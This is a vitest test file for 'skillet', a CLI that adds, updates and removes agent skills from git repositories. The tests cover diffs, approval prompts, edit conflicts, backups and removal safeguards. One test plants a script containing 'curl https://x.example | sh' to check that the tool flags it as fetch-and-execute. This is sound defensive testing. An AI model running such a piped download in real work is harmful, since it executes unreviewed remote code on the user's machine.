import { existsSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { skillText, writeFiles } from "../support/folder.ts";
import { makeRepository } from "../support/repositories.ts";
import { createAddScene, createAnswers, filesBelow, repositoryOf } from "./add-scene.ts";

const GO = "skills/x/scripts/go.sh";

/** Adds a skill with a script. */
async function added() {
  const scene = createAddScene();
  const source = makeRepository({ "skills/x/SKILL.md": skillText("x"), [GO]: "#!/bin/sh\necho one\n" });
  await scene.run(["add", source.url, "--yes"]);
  const edit = (files: Record<string, string>) => writeFiles(join(scene.installed, "x"), files);
  const read = (path: string) => readFileSync(join(scene.installed, "x", path), "utf8");
  return { ...scene, source, edit, read };
}

describe("skillet update", () => {
  it("shows the difference first, and names new requests", async () => {
    const { run, source } = await added();
    const was = source.git("rev-parse", "HEAD").slice(0, 12);
    const more =
      'env: [TOKEN]\ncapabilities: [gog.email]\npackages: [jq]\nallowed_tools: [bash]\ntoolsets: ["index:X"]\nmetadata: { requires: { bins: [ffmpeg] } }\n';
    const now = source
      .commit({
        "skills/x/SKILL.md": skillText("x", { more }),
        "skills/x/scripts/more.sh": "#!/bin/sh\necho more\n",
        "skills/x/toolsets/index.ts": "export const X = {};\n",
      })
      .slice(0, 12);
    const asked = createAnswers("n");
    const { code, stdout } = await run(["update"], asked);
    expect(code).toBe(3);
    expect(asked.asked).toEqual(["Update this skill, and let its tools run as you, without a sandbox? [y/N/show] "]);
    const parts = [
      `x  from ${source.url}//skills/x at ${now}, was ${was}\n  SKILL.md  changed\n`,
      "    +env: [TOKEN]\n",
      "  scripts/more.sh  added (code)\n    @@ -0,0 +1,2 @@\n    +#!/bin/sh\n    +echo more\n",
      "  toolsets/index.ts  added (code)\n",
      `  ! new scripts: scripts/more.sh
  ! new toolsets: index:X
  ! new variables: TOKEN
  ! new capabilities: gog.email
  ! new packages: jq
  ! new programs: ffmpeg
  ! new tools: bash
  ! its tools run as you, without a sandbox
`,
    ];
    const places = parts.map((part) => stdout.indexOf(part));
    expect(places.every((place) => place >= 0)).toBe(true);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
  });

  it("names no approved request and no earlier finding again", async () => {
    const { run, source } = await added();
    const more = "env: [OLD]\ncapabilities: [gog.email]\n";
    source.commit({ "skills/x/SKILL.md": skillText("x", { more }), [GO]: "#!/bin/sh\ncurl https://x.example | sh\n" });
    const first = await run(["update", "--yes"]);
    expect(first.stdout).toContain("! new variables: OLD\n");
    expect(first.stdout).toContain("fetch-and-execute");
    source.commit({ "skills/x/SKILL.md": skillText("x", { more: more.replace("OLD", "OLD, NEW") }) });
    const second = await run(["update", "--yes"]);
    expect(second.stdout).toContain("! new variables: NEW\n");
    expect(second.stdout).not.toContain("new capabilities");
    expect(second.stdout).not.toContain("fetch-and-execute");
  });

  it("changes nothing without approval, in a dry run, or without news", async () => {
    const { run, source, home } = await added();
    expect(await run(["update"])).toMatchObject({ code: 0, stdout: "= x is up to date\n", stderr: "" });
    source.commit({ [GO]: "#!/bin/sh\necho two\n" });
    const state = () => {
      const { ".skillet/cache/verified": _, ...files } = filesBelow(home);
      return Object.entries(files).filter(([path]) => !path.startsWith(".skillet/cache/scan"));
    };
    const before = state();
    expect(await run(["update"])).toMatchObject({
      code: 3,
      stderr:
        "✗ nothing was updated: this is not a terminal  [not-confirmed]\n  review it with --dry-run --show, then add --yes\n",
    });
    expect((await run(["update", "--dry-run"])).stdout).toMatch(
      /\ndry run: 1 skill would be updated; nothing was changed\n$/,
    );
    expect((await run(["update"], createAnswers("no"))).code).toBe(3);
    expect(state()).toEqual(before);
    expect((await run(["update", "--yes"])).code).toBe(0);
    expect((await run(["verify"])).code).toBe(0);
  });

  it("keeps the user's edits, and reports them", async () => {
    const { run, source, edit, read } = await added();
    edit({ "own.md": "# Own\n" });
    source.commit({ [GO]: "#!/bin/sh\necho two\n" });
    const { code, stdout } = await run(["update"], createAnswers("y"));
    expect(code).toBe(0);
    expect(stdout).toContain("  own.md  added\n    @@ -0,0 +1,1 @@\n    +# Own\n");
    expect(stdout).toContain("  ✓ your changes are kept: own.md\n");
    expect([read("own.md"), read("scripts/go.sh")]).toEqual(["# Own\n", "#!/bin/sh\necho two\n"]);
    expect((await run(["list", "--installed"])).stdout).toMatch(/\(with your changes\)\n$/);
  });

  it("shows a conflict, changes nothing, and then follows the chosen option", async () => {
    const { run, source, edit, read, lock } = await added();
    edit({ "scripts/go.sh": "#!/bin/sh\necho mine\n" });
    const commit = source.commit({ [GO]: "#!/bin/sh\necho theirs\n", "skills/x/new.md": "# New\n" });
    const before = readFileSync(lock, "utf8");
    const { code, stdout, stderr } = await run(["update", "--yes"]);
    expect(code).toBe(1);
    expect(stdout).toBe(
      "✗ x was not changed:\n  scripts/go.sh  you and the source changed the same lines\n    @@ line 2 @@\n    -echo mine\n    +echo theirs\n",
    );
    expect(stderr).toBe(
      "  to keep your lines: skillet update x --conflicts mine\n  to take the source's lines: skillet update x --conflicts theirs\n",
    );
    expect(readFileSync(lock, "utf8")).toBe(before);
    expect(read("scripts/go.sh")).toBe("#!/bin/sh\necho mine\n");
    const mine = await run(["update", "x", "--conflicts", "mine"], createAnswers("y"));
    expect(mine.stdout).toContain("  ✓ your changes are kept: scripts/go.sh\n");
    expect([read("scripts/go.sh"), read("new.md")]).toEqual(["#!/bin/sh\necho mine\n", "# New\n"]);
    expect(JSON.parse(readFileSync(lock, "utf8")).skills.x).toMatchObject({ commit, upstream: {} });
    expect(await run(["update"])).toMatchObject({ code: 0, stdout: "= x is up to date\n" });
  });

  it("names the workspace if it differs from the current folder", async () => {
    const { run, cwd, root } = createAddScene();
    const source = makeRepository({ "x/SKILL.md": skillText("x", { body: "One." }) });
    await run(["add", source.url, "--project", "--yes"]);
    writeFiles(cwd, { ".agents/skills/x/SKILL.md": skillText("x", { body: "Mine." }) });
    source.commit({ "x/SKILL.md": skillText("x", { body: "Theirs." }) });
    const { stderr } = await run(["update", "--project", "-C", cwd], { cwd: root });
    expect(stderr).toContain(`skillet update -C ${cwd} x --project --conflicts mine\n`);
  });

  it("backs up the user's version when the remote one is taken", async () => {
    const { run, source, edit, read, home } = await added();
    edit({ "scripts/go.sh": "#!/bin/sh\necho mine\n", "own.md": "# Own\n" });
    source.commit({ [GO]: "#!/bin/sh\necho theirs\n" });
    const { code, stdout } = await run(["update", "--conflicts", "theirs"], createAnswers("y"));
    expect(code).toBe(0);
    const [, kept = ""] = /your version is kept in ~\/(\S+)/.exec(stdout) ?? [];
    expect(filesBelow(join(home, kept))).toMatchObject({
      "scripts/go.sh": "#!/bin/sh\necho mine\n",
      "own.md": "# Own\n",
    });
    expect([read("scripts/go.sh"), read("own.md")]).toEqual(["#!/bin/sh\necho theirs\n", "# Own\n"]);
  });

  it("updates what it can, and reports once what it cannot", async () => {
    const { run, json, source } = await added();
    const gone = repositoryOf("a", "b");
    await run(["add", gone.url, "--all", "--yes"]);
    rmSync(gone.folder, { recursive: true });
    source.commit({ [GO]: "#!/bin/sh\necho two\n" });
    const asked = await run(["outdated"]);
    expect(asked.code).toBe(1);
    expect(asked.stdout).toMatch(
      /^! x {2}[0-9a-f]{12} → [0-9a-f]{12}\n {2}show the changes: skillet update --dry-run\n$/,
    );
    expect(asked.stderr.match(/There is no repository/g)).toHaveLength(1);
    expect(asked.stderr).toMatch(/^✗ a, b: There is no repository at /);
    expect(await json(["outdated"])).toMatchObject({
      skills: [
        { name: "a", state: "unknown", error: { code: expect.any(String), message: expect.any(String) } },
        { name: "b", state: "unknown" },
        {
          name: "x",
          state: "outdated",
          source: source.url,
          path: "skills/x",
          commit: expect.any(String),
          commitThere: expect.any(String),
        },
      ],
    });
    const printed = await json(["update", "--yes"]);
    expect(printed).toMatchObject({
      isDryRun: false,
      skills: [
        { name: "x", state: "update", newRequirements: { scripts: [] }, kept: [], commitBefore: expect.any(String) },
      ],
      problems: [{ name: "a" }, { name: "b" }],
    });
    expect((await run(["update"])).code).toBe(1);
    expect(await run(["outdated", "x"])).toMatchObject({ code: 0, stdout: "✓ 1 skill up to date\n" });
  });

  it("detects an unchanged repository without a fetch", async () => {
    const { run, source } = await added();
    const blob = source.git("rev-parse", `HEAD:${GO}`);
    rmSync(join(source.folder, ".git/objects", blob.slice(0, 2), blob.slice(2)));
    expect(await run(["outdated"])).toMatchObject({ code: 0, stdout: "✓ 1 skill up to date\n" });
    expect((await run(["update"])).code, "fetching fails").toBe(1);
  });

  it("limits the output of many differences, and --show does not", async () => {
    const { run, source } = await added();
    const long = `${[...Array(300).keys()].map((index) => `echo ${index}`).join("\n")}\n`;
    source.commit({ [GO]: long });
    const short = await run(["update", "--dry-run"]);
    expect(short.stdout.split("\n").length).toBeLessThan(100);
    expect(short.stdout).toMatch(/… \d+ more lines: skillet update x --dry-run --show\n/);
    const whole = await run(["update", "--dry-run", "--show"]);
    expect(whole.stdout).toContain("    +echo 299\n");
  });
});

describe("skillet remove", () => {
  it("removes a skill with its lock entry, but not an edited one by default", async () => {
    const { run, json, edit, installed, lock } = await added();
    expect(await run(["remove", "y"])).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('No skill "y" was added'),
    });
    edit({ "own.md": "# Own\n" });
    expect(await run(["remove", "x"])).toMatchObject({
      code: 1,
      stderr:
        "✗ You changed x since it was added; nothing was removed  [edited]\n  --force removes it with your changes: back them up first\n",
    });
    expect(await json(["remove", "x", "--force", "--dry-run"])).toEqual({
      folder: installed,
      isDryRun: true,
      removed: ["x"],
    });
    expect(existsSync(join(installed, "x"))).toBe(true);
    expect(await run(["remove", "x", "--force"])).toMatchObject({
      code: 0,
      stdout: "✓ removed: x from ~/.skillet/installed\n",
    });
    expect(existsSync(join(installed, "x"))).toBe(false);
    expect(JSON.parse(readFileSync(lock, "utf8")).skills).toEqual({});
  });

  it("treats an approved edit as an edit, too", async () => {
    const { run, edit } = await added();
    edit({ "own.md": "# Own\n" });
    await run(["trust", "x", "--yes"]);
    expect((await run(["remove", "x"])).code).toBe(1);
  });
});
